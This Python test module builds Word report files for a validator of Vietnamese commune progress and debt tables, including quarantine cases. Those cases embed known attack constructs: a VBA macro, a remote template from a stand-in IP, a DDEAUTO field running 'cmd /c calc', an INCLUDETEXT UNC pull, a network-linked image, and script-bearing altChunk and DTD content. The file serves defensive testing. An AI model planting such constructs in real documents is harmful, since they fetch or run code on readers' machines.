"""The report as a Word document: a table of header lines, the progress table and the debt table.

expects and faults name the table by its title line ("A. Tiến độ", "C. Nợ XDCB") and count cells from the heading row
as row 1, so the first indicator's judgement is G2 and the first project's accepted volume G2.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from xml.sax.saxutils import escape

from tests.hostile.unseen_form import (
    DEBT,
    DEBT_HEADINGS,
    DEBT_ROWS,
    PACKAGE_REL,
    PROGRESS,
    PROGRESS_HEADINGS,
    PROGRESS_ROWS,
    XML,
    Scalar,
    rels_xml,
)
from tests.hostile.unseen_kit import UnseenFile, Value, package, tcvn3
from tests.hostile.unseen_parts import ENTITY, OLE

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
HEADER: list[list[Scalar]] = [
    ["Mẫu biểu", "NTM-XA-1"], ["Cơ quan/đơn vị báo cáo", "UBND xã Mỹ Hà"], ["Kỳ báo cáo (thứ Tư, ngày)", "12/04/2023"],
]  # fmt: skip
Table = list[list[str]]  # of <w:tc> elements


@dataclass
class Document:
    """The tables as <w:tc> elements, open to change, and whatever else goes into the package."""

    header: Table
    progress: Table
    debt: Table
    before: str = ""  # paragraphs before the first table
    behind: str = ""  # paragraphs after the last one
    root_before: str = ""  # between the XML declaration and the root
    main_type: str = MAIN_TYPE
    parts: dict[str, bytes] = field(default_factory=dict)
    links: list[tuple[str, str, str]] = field(default_factory=list)


Edit = Callable[[Document], object]


def run(text: str, properties: str = "") -> str:
    return f'<w:r><w:rPr>{properties}</w:rPr><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def paragraph(content: str) -> str:
    return f"<w:p>{content}</w:p>"


def cell(content: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{content}</w:tc>"


def plain(value: Scalar) -> str:
    text = "" if value is None else str(value).replace(".", ",") if isinstance(value, Decimal) else str(value)
    return cell(paragraph(run(text)))


def _table(rows: list[list[Scalar]], width: int) -> Table:
    return [[plain(value) for value in row + [None] * (width - len(row))] for row in rows]


def document() -> Document:
    progress = _table([list(PROGRESS_HEADINGS), *PROGRESS_ROWS], len(PROGRESS_HEADINGS))
    debt = _table([list(DEBT_HEADINGS), *DEBT_ROWS], len(DEBT_HEADINGS))
    return Document(_table(HEADER, 2), progress, debt)


def table_xml(rows: Table) -> str:
    if not rows:
        return ""
    lines = "".join(f"<w:tr>{''.join(cells)}</w:tr>" for cells in rows)
    grid = "<w:gridCol/>" * max(len(row) for row in rows)
    return f"<w:tbl><w:tblPr/><w:tblGrid>{grid}</w:tblGrid>{lines}</w:tbl>"


def _body(doc: Document) -> str:
    return "".join((
        doc.before, table_xml(doc.header), paragraph(run("A. Tiến độ")), table_xml(doc.progress),
        paragraph(run("C. Nợ XDCB")), paragraph(run("Đơn vị tính: triệu đồng")), table_xml(doc.debt),
        doc.behind, "<w:p/><w:sectPr/>",
    ))  # fmt: skip


def docx(*edits: Edit) -> Callable[[], bytes]:
    def make() -> bytes:
        doc = document()
        for edit in edits:
            edit(doc)
        return package(_parts(doc))

    return make


def _parts(doc: Document) -> dict[str, bytes]:
    types = (f'{XML}<Types xmlns="{PACKAGE_REL.replace("relationships", "content-types")}"><Default Extension="rels" '
             'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
             'ContentType="application/xml"/><Default Extension="bin" ContentType="application/octet-stream"/>'
             f'<Override PartName="/word/document.xml" ContentType="{doc.main_type}"/></Types>')  # fmt: skip
    main = f'{XML}{doc.root_before}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{_body(doc)}</w:body></w:document>'
    return {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": rels_xml([("officeDocument", "word/document.xml", "")]).encode(),
        "word/document.xml": main.encode(),
        "word/_rels/document.xml.rels": rels_xml(doc.links).encode(),
        **doc.parts,
    }


def _put(table: str, row: int, column: int, tc: str) -> Edit:
    return lambda doc: getattr(doc, table)[row - 1].__setitem__(column - 1, tc)


def _set(name: str, value: object) -> Edit:
    return lambda doc: setattr(doc, name, value)


def _part(name: str, data: bytes, link: tuple[str, str, str] | None = None) -> Edit:
    def edit(doc: Document) -> None:
        doc.parts[name] = data
        doc.links += [link] if link else []

    return edit


def _link(kind: str, target: str, mode: str = "External") -> Edit:
    return lambda doc: doc.links.append((kind, target, mode))


def _two_level_heading(doc: Document) -> None:
    """Vốn đã bố trí lũy kế spans six columns; the line below names the sources."""
    over = cell(paragraph(run("Vốn đã bố trí lũy kế")), '<w:gridSpan w:val="6"/>')
    under = [cell("<w:p/>", "<w:vMerge/>") for _ in DEBT_HEADINGS]
    under[7:13] = [
        plain(word) for word in ("NSTW", "NS tỉnh", "NS huyện", "NS xã", "TPCP/khác", "Dân góp, DN")
    ]
    top = [cell(paragraph(run(words)), '<w:vMerge w:val="restart"/>') for words in DEBT_HEADINGS]
    doc.debt[0:1] = [[*top[:7], over, *top[13:]], under]


def _merged_name(doc: Document) -> None:
    doc.progress[6][1] = cell(paragraph(run("Môi trường")), '<w:vMerge w:val="restart"/>')
    doc.progress[7][1] = cell("<w:p/>", "<w:vMerge/>")


def _merged_sum(doc: Document) -> None:
    doc.debt[1][6] = cell(paragraph(run("4700")), '<w:vMerge w:val="restart"/>')
    doc.debt[2][6] = cell("<w:p/>", "<w:vMerge/>")


def _laid_out(doc: Document) -> None:
    """The progress table inside the only cell of a frame table."""
    inner = table_xml(doc.progress) + "<w:p/>"
    doc.progress = [[cell(inner)]]


def _split_pages(doc: Document) -> None:
    """The progress table cut in two, the headings repeated above the second half."""
    first, second = doc.progress[:5], [doc.progress[0], *doc.progress[5:]]
    doc.behind = table_xml(second)
    doc.progress = first


def _field(code: str) -> str:
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (mark.format("begin") + f"<w:r><w:instrText>{escape(code)}</w:instrText></w:r>" + mark.format("separate")
            + run("4700") + mark.format("end"))  # fmt: skip


def _tracked(old: str, new: str) -> str:
    who = 'w:id="1" w:author="Văn thư" w:date="2023-04-12T08:00:00Z"'
    gone = f"<w:del {who}><w:r><w:delText>{old}</w:delText></w:r></w:del>"
    return cell(paragraph(f"{gone}<w:ins {who}>{run(new)}</w:ins>"))


_VN = '<w:rFonts w:ascii=".VnTime" w:hAnsi=".VnTime"/>'
_VNI = '<w:rFonts w:ascii="VNI-Times" w:hAnsi="VNI-Times"/>'
_SUM, _FIRST = Decimal(4_700_000_000), "G2"
_DOC: tuple[tuple[str, str, tuple[Edit, ...], tuple[tuple[str, str, Value], ...]], ...] = (
    ("báo cáo Word", "an ordinary document with the tables of the form", (),
     ((PROGRESS, "G3", "nearly_met"), (DEBT, _FIRST, _SUM))),
    ("Word số cắt nhiều đoạn", "Word splits 4700 over runs as it likes",
     (_put("debt", 2, 7, cell(paragraph(run("47") + "<w:proofErr/>" + run("00")))),), ((DEBT, _FIRST, _SUM),)),
    ("Word hai đoạn một ô", "a judgement over two paragraphs of one cell",
     (_put("progress", 3, 7, cell(paragraph(run("Cơ bản")) + paragraph(run("đạt")))),),
     ((PROGRESS, "G3", "nearly_met"),)),
    ("Word tiêu đề hai tầng", "headings in two lines, merged across and down", (_two_level_heading,),
     ((DEBT, "K3", Decimal(700_000_000)),)),
    ("Word ô tiêu chí gộp", "a criterion's name merged over its rows", (_merged_name,), ((PROGRESS, "G8", "met"),)),
    ("Word bảng cắt đôi", "the table continues as a second one with the headings repeated", (_split_pages,), ()),
    ("Word TCVN3", "a run in .VnTime",
     (_put("progress", 3, 7, cell(paragraph(run(tcvn3("Cơ bản đạt"), _VN)))),), ((PROGRESS, "G3", "nearly_met"),)),
    ("Word trường số trang", "PAGE is a harmless field",
     (_set("behind", paragraph(_field("PAGE"))),), ((DEBT, _FIRST, _SUM),)),
)  # fmt: skip
_RETURNED: tuple[tuple[str, str, tuple[Edit, ...], tuple[tuple[str, str], ...]], ...] = (
    ("Word sửa chưa chốt", "a tracked change in a sum: 4800 struck, 4700 put in, neither accepted yet",
     (_put("debt", 2, 7, _tracked("4800", "4700")),), ((DEBT, _FIRST),)),
    ("Word đánh giá sửa chưa chốt", "a tracked change of a judgement",
     (_put("progress", 3, 7, _tracked("Chưa đạt", "Cơ bản đạt")),), ((PROGRESS, "G3"),)),
    ("Word chữ ẩn trong số", "47 is seen, 4700 is stored: two readings",
     (_put("debt", 2, 7, cell(paragraph(run("47") + run("00", "<w:vanish/>")))),), ((DEBT, _FIRST),)),
    ("Word gộp ô tiền", "one sum merged over two projects", (_merged_sum,), ((DEBT, _FIRST),)),
    ("Word một dấu chấm", "4.700 under triệu đồng", (_put("debt", 2, 7, plain("4.700")),), ((DEBT, _FIRST),)),
    ("Word VNI", "a judgement in VNI-Times",
     (_put("progress", 3, 7, cell(paragraph(run("Cô baûn ñaït", _VNI)))),), ((PROGRESS, "G3"),)),
    ("Word thiếu cột", "no column Tự đánh giá", (lambda doc: [row.pop(6) for row in doc.progress],), ()),
    ("Word mẫu trắng", "headings alone",
     (_set("progress", document().progress[:1]), _set("debt", document().debt[:1])), ()),
    ("Word bảng tiến độ hai lần", "the same indicators in two tables",
     (lambda doc: setattr(doc, "behind", table_xml(doc.progress)),), ()),
)  # fmt: skip
_VBA = ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", "")
_PIC = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId1"/></v:shape></w:pict>\
</w:r></w:p>'
)
_SETTINGS = (
    f'{XML}<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
).encode()
_SETTINGS_LINK = rels_xml([("attachedTemplate", "http://203.0.113.9/a.dotm", "External")]).encode()
_QUARANTINED: tuple[tuple[str, str, tuple[Edit, ...]], ...] = (
    ("Word macro", "a VBA project in a .docx", (_part("word/vbaProject.bin", OLE, _VBA),)),
    ("Word docm đổi đuôi", "the content type of a macro-enabled document", (_set("main_type", MACRO_TYPE),)),
    ("Word mẫu từ xa", "a template fetched from a server when opened",
     (_part("word/settings.xml", _SETTINGS, ("settings", "settings.xml", "")),
      _part("word/_rels/settings.xml.rels", _SETTINGS_LINK))),
    ("Word DDE", "a DDEAUTO field that starts a program",
     (_put("debt", 2, 7, cell(paragraph(_field('DDEAUTO cmd "/c calc"')))),)),
    ("Word INCLUDETEXT", "a field that pulls text from a server",
     (_put("debt", 2, 7, cell(paragraph(_field('INCLUDETEXT "\\\\\\\\10.0.0.9\\\\a.docx"')))),)),
    ("Word ảnh từ mạng", "a linked picture fetched from a server",
     (_link("image", "http://203.0.113.9/a.png"), _set("behind", _PIC))),
    ("Word nhúng OLE", "an embedded object",
     (_part("word/embeddings/oleObject1.bin", OLE, ("oleObject", "embeddings/oleObject1.bin", "")),)),
    ("Word chèn HTML", "an altChunk: a foreign page imported on opening",
     (_part("word/a.html", b"<html><script>1</script></html>", ("aFChunk", "a.html", "")),
      _set("behind", '<w:altChunk r:id="rId1"/>'))),
    ("Word DTD", "a document type in the document part", (_set("root_before", ENTITY),)),
    ("Word văn xuôi", "prose without any table: no form is recognised",
     (_set("progress", []), _set("debt", []), _set("behind", paragraph(run("Xã đã đạt 15/19 tiêu chí."))))),
    ("Word của xã khác", "the header names Mỹ Thịnh", (_put("header", 2, 2, plain("UBND xã Mỹ Thịnh")),)),
    ("Word tuần khác", "the header names the next week", (_put("header", 3, 2, plain("19/04/2023")),)),
    ("Word có dấu độ", "MẬT in a text before the table", (_set("before", paragraph(run("MẬT"))),)),
    ("Word dấu độ chữ rời", "the mark over three runs",
     (_set("before", paragraph(run("TỐI ") + run("M") + run("ẬT"))),)),
)  # fmt: skip
FILES = (
    *(UnseenFile(f"{name}.docx", "docx", "accept", why, docx(*edits), expects) for name, why, edits, expects in _DOC),
    UnseenFile("Word bảng trong khung.docx", "docx", "accept", "the table inside a frame table, for the layout",
               docx(_laid_out), open_question="the issue names tables, merged cells, not nesting; nothing is doubtful"),
    *(UnseenFile(f"{name}.docx", "docx", "return", why, docx(*edits), faults=faults)
      for name, why, edits, faults in _RETURNED),
    *(UnseenFile(f"{name}.docx", "docx", "quarantine", why, docx(*edits)) for name, why, edits in _QUARANTINED),
    UnseenFile("Word cụt.docx", "docx", "quarantine", "truncated", lambda: docx()()[:-700]),
    UnseenFile("Word đổi đuôi.xlsx", "docx", "quarantine", "a document named .xlsx: content against extension",
               docx(_set("before", paragraph(run("Kính gửi: Phòng NN&PTNT"))))),
)  # fmt: skip
